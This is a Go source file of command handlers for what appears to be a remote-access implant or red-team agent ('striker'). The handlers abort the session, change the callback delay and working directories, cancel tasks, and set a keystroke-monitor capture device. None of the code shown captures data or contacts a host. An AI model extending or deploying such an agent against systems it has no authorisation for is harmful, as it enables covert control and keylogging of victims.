package executor

import (
	"context"

	"striker/internal/session"
	"striker/internal/task"
)

// ── session control ──────────────────────────────────────────────────

func (e *Executor) abort(_ context.Context, sess *session.Session, _ *task.Task) (string, bool) {
	sess.Abort()
	e.logger.Info("abort requested by operator")
	return "Session aborted!", true
}

func (e *Executor) delay(_ context.Context, sess *session.Session, t *task.Task) (string, bool) {
	secs, ok := t.Params().Int("delay")
	if !ok || secs < 1 {
		return "Invalid delay!", false
	}
	sess.SetDelay(secs)
	e.logger.Verbose("callback delay now %ds", secs)
	return "Callback delay updated!", true
}

func (e *Executor) cd(_ context.Context, sess *session.Session, t *task.Task) (string, bool) {
	dir, ok := stringParam(t, "dir")
	if !ok {
		return "Error changing working directory!", false
	}
	wd, err := sess.Chdir(dir)
	if err != nil {
		e.logger.Debug("cd %s: %v", dir, err)
		return "Error changing working directory!", false
	}
	return wd, true
}

func (e *Executor) writeDir(_ context.Context, sess *session.Session, t *task.Task) (string, bool) {
	dir, ok := stringParam(t, "dir")
	if !ok {
		return "No directory given!", false
	}
	e.logger.Verbose("write directory now %s", sess.SetWriteDir(dir))
	return "Changed write directory!", true
}

// kill flags a running task for cancellation.  Success only means the
// target exists; it stops on its own schedule.
func (e *Executor) kill(_ context.Context, sess *session.Session, t *task.Task) (string, bool) {
	target, ok := stringParam(t, "uid")
	if !ok || target == t.ID() || !sess.Tasks.Cancel(target) {
		return "Invalid task!", false
	}
	e.logger.Verbose("cancel requested for task %s", target)
	return "Abort signal set!", true
}

func (e *Executor) keymonDevice(_ context.Context, sess *session.Session, t *task.Task) (string, bool) {
	dev, ok := stringParam(t, "device")
	if !ok {
		return "No device given!", false
	}
	sess.SetCaptureDevice(dev)
	return "Capture device set!", true
}
